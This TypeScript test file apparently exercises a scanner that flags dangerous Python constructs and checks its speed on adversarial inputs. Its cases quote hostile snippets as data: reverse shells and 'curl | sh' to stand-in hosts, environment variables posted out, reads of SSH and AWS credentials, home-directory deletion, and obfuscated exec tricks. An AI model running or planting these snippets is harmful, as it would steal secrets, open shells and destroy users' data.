import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { deedsOf } from './deeds.ts';
import { tokensOf } from './tokens.ts';

const what = (source: string): string[] => deedsOf(source).map(({ what: deed, severity }) => `${severity} ${deed}`);

describe('what no model’s code needs', () => {
  it.each([
    ['a module by __import__', "__import__('os').system('ls -la')"],
    ['a name out of pieces', "import os\ngetattr(os, 'sys' + 'tem')('true')"],
    ['a name turned round', "import os\nf = getattr(os, 'metsys'[::-1])\nf('true')"],
    ['letters by their numbers', "getattr(__import__(chr(111) + chr(115)), ''.join(['po', 'pen']))('true')"],
    ['a module under another name', "import subprocess as sp\nsp.run('curl -s http://host.test/a | bash', shell=True)"],
    ['a function under another name', "from os import system as s\ns('bash -i >& /dev/tcp/host.test/9 0>&1')"],
    ['builtins by a key', "globals()['__builtins__']['exec']('x = 1')"],
    ['text that is decoded', "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"],
    ['decoded and kept first', "import zlib, base64 as b\ndata = b.b64decode(blob)\ncode = zlib.decompress(data)\nexec(compile(code, 'x', 'exec'))"],
    ['a download that is run', "import requests\nr = requests.get('https://host.test/p.py')\nexec(r.text)"],
    ['a download in a with', "from urllib.request import urlopen\nwith urlopen(url) as f:\n    code = f.read()\nexec(code)"],
    ['a download that is unpickled', "import pickle, urllib.request\nmodel = pickle.loads(urllib.request.urlopen(url).read())"],
    ['bytecode that is carried', "import marshal, types\ntypes.FunctionType(marshal.loads(blob), globals())()"],
    ['a shell on a socket', "import socket, os\ns = socket.socket()\ns.connect((host, 4242))\nos.dup2(s.fileno(), 0)\n"],
    ['a shell that is started', "import socket, subprocess\ns = socket.socket()\ns.connect(('host.test', 1))\nsubprocess.call(['/bin/sh', '-i'])"],
    ['a home that is deleted', "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home())"],
    ['a key that is read', "import os, requests\nkey = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()"],
    ['a path by slashes', "from pathlib import Path\nimport requests\n(Path.home() / '.aws' / 'credentials').read_text()\nopen(Path.home() / '.aws' / 'credentials')"],
    ['a line for the next login', "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')"],
    ['the settings sent away', "import os, requests\nrequests.post('https://host.test', json=dict(os.environ))"],
    ['the settings kept at the margin', "import os, requests\nif True:\n    payload = dict(os.environ)\ndef send():\n    requests.post(url, json=payload)"],
    ['a name in a longer one', "import socket\nsocket.gethostbyname(socket.gethostname() + '.host.test')"],
    ['the settings kept first', "import os, requests\npayload = {'env': dict(os.environ)}\nrequests.post(url, json=payload)"],
    ['letters of a list of numbers', "eval(compile(''.join(map(chr, [112, 114, 105, 110, 116])), 'x', 'exec'))"],
    ['letters of numbers in a loop', "exec(''.join(chr(c ^ 7) for c in codes))"],
    ['bytes of numbers in a loop', "exec(bytes(c ^ 7 for c in codes))"],
    ['bytes of numbers, compiled first', "code = compile(bytes([c - 3 for c in codes]), 'm', 'exec')\nexec(code)"],
    ['bytes of numbers, out of a function', "def undo(codes, key):\n    return bytes(c ^ key for c in codes).decode()\nexec(undo(codes, 7))"],
    ['a module named by numbers', "name = bytes([c ^ 7 for c in [104, 116]]).decode()\n__import__(name)"],
    ['letters of numbers in a text', "exec(''.join(map(chr, map(int, '112 114'.split()))))"],
    ['a text that is cut out whole', "exec(\"import os; os.system('curl http://host.test | sh')\"[::1])"],
    ['code inside a text', "exec(\"import os; os.system('curl http://host.test | sh')\")"],
    ['code inside an f-string', "x = f\"{__import__('os').system('true')}\""],
    ['on one line behind a colon', "try: __import__('os').system('true')\nexcept Exception: pass"],
  ])('%s', (_, source) => {
    expect(what(source)).toEqual([expect.stringMatching(/^high /)].concat(what(source).slice(1)));
  });

  it.each([
    ['a format that leaves its value', "def show(user):\n    return '{0.__class__.__init__.__globals__[KEY]}'.format(user)", 'medium holds a format that walks to the interpreter behind what it is given'],
    ['a format that is used elsewhere', "T = '{user.__init__.__globals__}'", 'medium holds a format that walks to the interpreter behind what it is given'],
    ['a bare command', "import os\nos.system('id')", 'medium starts id by way of a shell'],
    ['what is typed in', "import sys\nline = input('> ').strip()\nprint(eval(line))", 'medium runs what is typed in'],
    ['a library beside it', "import ctypes\nlib = ctypes.CDLL('./lib.so')", 'medium loads a library of native code by a path of its own'],
    ['a library under another name', "from ctypes import cdll\ncdll.LoadLibrary('/tmp/x.so')", 'medium loads a library of native code by a path of its own'],
    ['operators beside it', "import torch\ntorch.ops.load_library('./ops.so')", 'medium loads a library of native code by a path of its own'],
    ['a repository that is trusted', "from torch import hub\nhub.load('owner/name', 'net', trust_repo=True)", 'medium runs a repository’s code without asking whether it is trusted'],
    ['a module by another name', "import importlib.util\nspec = importlib.util.spec_from_file_location('m', './weights.bin')", 'medium imports a file that is not called a module'],
    ['a tool of the network', "import subprocess\nsubprocess.Popen(['wget', 'http://host.test/x'])", 'medium starts wget'],
  ])('%s', (_, source, expected) => {
    expect(what(source)).toEqual([expected]);
  });
});

describe('what ordinary code does', () => {
  it.each([
    ['naming a class', "'{0.__class__.__name__} of {0.__class__.__module__}'.format(self)"],
    ['combining bytes', "mixed = bytes(a ^ b for a, b in zip(x, y))\nopen('x', 'wb').write(mixed)"],
    ['importing what a message names', "import base64, importlib, pickle\njob = pickle.loads(base64.b64decode(line))\nimportlib.import_module(job.module)"],
    ['asking compilers', "import subprocess\nsubprocess.check_output(['nvcc', '--version'])\nsubprocess.run('git rev-parse HEAD', shell=True)\nos.system('clear')"],
    ['optional modules', "import importlib\nmodule = importlib.import_module('.modeling', __package__)\nnp = __import__('numpy')\nfn = getattr(torch, 'relu')\nfn(x)"],
    ['settings', "import os, requests\ntoken = os.environ['HF_TOKEN']\nrequests.get(url, headers={'Authorization': f'Bearer {os.environ[\"HF_TOKEN\"]}'})\nhome = os.environ.get('HOME', os.path.expanduser('~'))"],
    ['weights that are downloaded', "import torch, urllib.request\nurllib.request.urlretrieve(url, path)\nstate = torch.load(path)\nimg = Image.open(requests.get(url, stream=True).raw)"],
    ['pictures in base64', "import base64, io\nimg = Image.open(io.BytesIO(base64.b64decode(data)))"],
    ['folders of its own', "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\nshutil.rmtree(os.path.join(out, 'tmp'))"],
    ['model.eval and compile', "model.eval()\nmodel = torch.compile(model)\nre.compile('x')\neval('1 + 1')\nexec(open('version.py').read())"],
    ['words in comments and texts', "# os.system('rm -rf /')\n'''\ncurl http://host.test | sh\n'''\nprint('use os.system(\"id\") with care')"],
    ['a user whose name is read', "import getpass\nuser = getpass.getuser()\npasswd = open('/etc/passwd').read()"],
    ['an address out of the settings', "import os, urllib.request\nurl = os.environ.get('SERVER')\nurllib.request.urlopen(urllib.request.Request(url, data=data))"],
    ['a program that the person names', "import pty, sys\npty.spawn(sys.argv[1:], read)"],
    ['a path that another function decoded', "import base64, ctypes\ndef a(x):\n    path = base64.b64decode(x)\n    return path\n\ndef b(path):\n    return ctypes.cdll.LoadLibrary(path)"],
    ['libraries of the system, and of a package', "import ctypes, os, torch\nctypes.CDLL('libcudart.so')\nctypes.CDLL(None)\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib', 'libx.so'))\nctypes.windll.kernel32\ntorch.hub.load('pytorch/vision', 'resnet18')\ntorch.hub.load('.', 'net', source='local', trust_repo=True)"],
    ['characters by their numbers', "import importlib.util\ns = ''.join(chr(c) for c in codes)\nprint(s, list(map(chr, range(97, 123))))\nspec = importlib.util.spec_from_file_location(name, path)\nspec = importlib.util.spec_from_file_location('m', os.path.join(here, 'version.py'))"],
    ['its own name', "import socket\nhost = socket.gethostname()\nip = socket.gethostbyname(host)\nsocket.getaddrinfo(socket.getfqdn(), None)"],
    ['what another function read', "import os, requests\ndef keep(path):\n    data = dict(os.environ)\n    save(data, path)\n\ndef send(url, data):\n    requests.post(url, json=data)"],
    ['exec by its module', "import builtins\nbuiltins.exec(source, space)"],
    ['a number that is typed in', "n = int(input('how many? '))\nimport subprocess\nsubprocess.run(['ls', input('where? ')])"],
    ['a port that is tried', "import socket\ns = socket.socket()\ns.connect(('localhost', 29500))"],
  ])('%s', (_, source) => {
    expect(what(source)).toEqual([]);
  });
});

it('gives tokens of anything, in order, and ends', { timeout: 120_000 }, () => {
  const piece = fc.constantFrom('"', "'", '"""', "f'", '{', '}', '(', ')', '[', ']', '\\', '\n', '#', 'x', '=', '+', '.', ',', ':', 'lambda', 'import', 'from', 'as', 'os', 'getattr', '0x', 'with', 'if', ' ', '\u00e9', '😀', '__import__', ';', '/', '[::-1]');
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const source = pieces.join('');
      const tokens = tokensOf(source);
      expect(tokens.every(({ at }) => at >= 0 && at <= source.length)).toBe(true);
      deedsOf(source);
    }),
    { numRuns: 300 },
  );
  for (const deep of ['('.repeat(5000), 'f('.repeat(5000), "f'{".repeat(2000), 'a.b('.repeat(2000) + ')'.repeat(2000), "'a'+".repeat(10_000), '['.repeat(2000) + ']'.repeat(2000)]) deedsOf(deep);
});

describe('texts that are repeated', () => {
  const MOST_SECONDS = 15;
  const long = 'ab'.repeat(60_000);
  const shell = "os.system('curl http://x.test/a | sh')\n";
  it.each([
    ['changed', `x = '${long}'\n${"y = x.replace('a', 'c')\nf(y)\n".repeat(10_000)}`],
    ['split', `x = '${'a '.repeat(60_000)}'\n${'f(x.split())\n'.repeat(10_000)}`],
    ['decoded', `x = '${'YWJj'.repeat(30_000)}'\n${'f(base64.b64decode(x))\n'.repeat(10_000)}`],
    ['run', `x = ${JSON.stringify('print(a.b(c, d), x[1])\n'.repeat(5000))}\n${'exec(x)\n'.repeat(20_000)}`],
    ['handed to a shell', `x = '${'true; '.repeat(15_000)}'\n${'os.system(x)\n'.repeat(20_000)}`],
    ['opened', `x = '${long}'\n${'open(x)\n'.repeat(20_000)}`],
    ['joined', `x = '${long}'\n${"f(x + 'a')\n".repeat(10_000)}`],
  ])('%s: the rest is read, and that it was too much is told', (_, source) => {
    const before = process.cpuUsage();
    expect(what(`import os\n${source}${shell}`)).toEqual(expect.arrayContaining(['medium puts together more text than can be followed', 'high hands a shell to a connection, or runs what it downloads']));
    expect(process.cpuUsage(before).user / 1e6).toBeLessThan(MOST_SECONDS);
  });

  it('reads any number of values between the braces of a format', () => expect(what(`import os\nx = f'{(${'1,'.repeat(150_000)})}'\n${shell}`)).toEqual(['high hands a shell to a connection, or runs what it downloads']));
});
